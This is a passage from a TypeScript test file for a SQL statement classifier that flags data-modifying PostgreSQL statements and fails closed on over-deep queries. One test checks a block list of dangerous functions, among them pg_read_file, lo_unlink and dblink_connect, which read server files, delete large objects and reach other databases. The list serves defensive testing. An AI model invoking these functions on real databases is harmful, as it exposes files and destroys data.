      assert.equal(c.statements.length, 1);
      assert.equal(c.statements[0]!.kind, 'unknown');
      assert.equal(c.statements[0]!.dataModifying, true);
    });
  }
  it('a tree too deep to walk is unknown, not an exception', () => {
    const c = classify(`DELETE FROM orders WHERE ${'NOT '.repeat(5000)} true`);
    assert.equal(c.statements.length, 1);
    const s = c.statements[0]!;
    // Either the parser or the walk gives up: both fail closed.
    if (c.parseError !== undefined) assert.equal(s.kind, 'unknown');
    else assert.equal(s.hasWhere, false);
    assert.equal(s.dataModifying, true);
  });
});

describe('dangerous function list', () => {
  it('matches on the last name component and by family prefix', () => {
    assert.equal(isDangerousFunction('pg_catalog.pg_read_file'), true);
    assert.equal(isDangerousFunction('lo_unlink'), true);
    assert.equal(isDangerousFunction('dblink_connect'), true);
    assert.equal(isDangerousFunction('my_pg_read_file_helper'), false);
    assert.equal(isDangerousFunction('lower'), false);
    assert.equal(isDangerousFunction('pg_read_file_x'), false);
  });
});

describe('speed', () => {
  it('classifies a pgbench select in microseconds (measured, not asserted)', (t) => {
    const sql = 'SELECT abalance FROM pgbench_accounts WHERE aid = 48213;';
    const tpcb = 'UPDATE pgbench_accounts SET abalance = abalance + 1234 WHERE aid = 48213;';
    for (let i = 0; i < 2000; i++) classify(sql);
    const n = 20000;
    let start = performance.now();
    for (let i = 0; i < n; i++) classify(sql);
    const select = ((performance.now() - start) * 1000) / n;
    start = performance.now();
    for (let i = 0; i < n; i++) classify(tpcb);
    const update = ((performance.now() - start) * 1000) / n;
    t.diagnostic(`classify(): ${select.toFixed(1)} µs per pgbench select, ${update.toFixed(1)} µs per TPC-B update`);
  });
});

describe('initialization', () => {
  it('initClassifier can be awaited again', async () => {
    await initClassifier();
    assert.equal(classify('SELECT 1').statements[0]!.kind, 'select');
  });
});
